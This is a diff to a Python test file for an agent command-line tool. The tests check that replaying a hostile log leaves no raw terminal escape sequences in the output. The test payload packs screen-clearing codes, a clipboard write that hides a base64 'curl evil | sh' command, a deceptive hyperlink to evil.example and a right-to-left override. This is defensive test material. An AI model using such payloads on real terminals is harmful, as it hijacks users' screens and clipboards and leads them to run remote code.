@@ -21,7 +21,7 @@ from pydantic import BaseModel
 
 from agent_cli import events as ev
 
-from .conftest import FORBIDDEN, assert_terminal_clean, cli, flat
+from .conftest import FORBIDDEN, assert_terminal_clean, cli, cli_streams, flat
 
 PAYLOAD = ("X\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]8;;https://evil.example/\x1b\\"
            "link\x1b]8;;\x1b\\\x9b1A\u202eexe.txt[link=https://evil.example]click[/link]:smile:Y")
@@ -101,8 +101,16 @@ def test_every_event_type_and_string_field_is_covered(tmp_path: Path) -> None:
 @pytest.mark.parametrize("output", ["text", "markdown"])
 def test_replay_of_a_hostile_log_writes_nothing_raw(tmp_path: Path, output: str) -> None:
     log = hostile_log(tmp_path / "hostile.jsonl")
-    code, shown = cli(["replay", str(log), "--output", output])
-    assert code == 0, shown
+    if output == "markdown":
+        # The export is stdout; stderr is the terminal's (the styled warning that the hostile
+        # log's chain does not verify), so each is judged by its own rule.
+        code, shown, err = cli_streams(["replay", str(log), "--output", output])
+        assert code == 0, shown + err
+        assert "does not verify" in err
+        assert_terminal_clean(err)
+    else:
+        code, shown = cli(["replay", str(log), "--output", output])
+        assert code == 0, shown
     if output == "text":
         assert_terminal_clean(shown)
         assert "\x1b[2J" not in shown and "\x1b]52" not in shown and "\x1b]8" not in shown
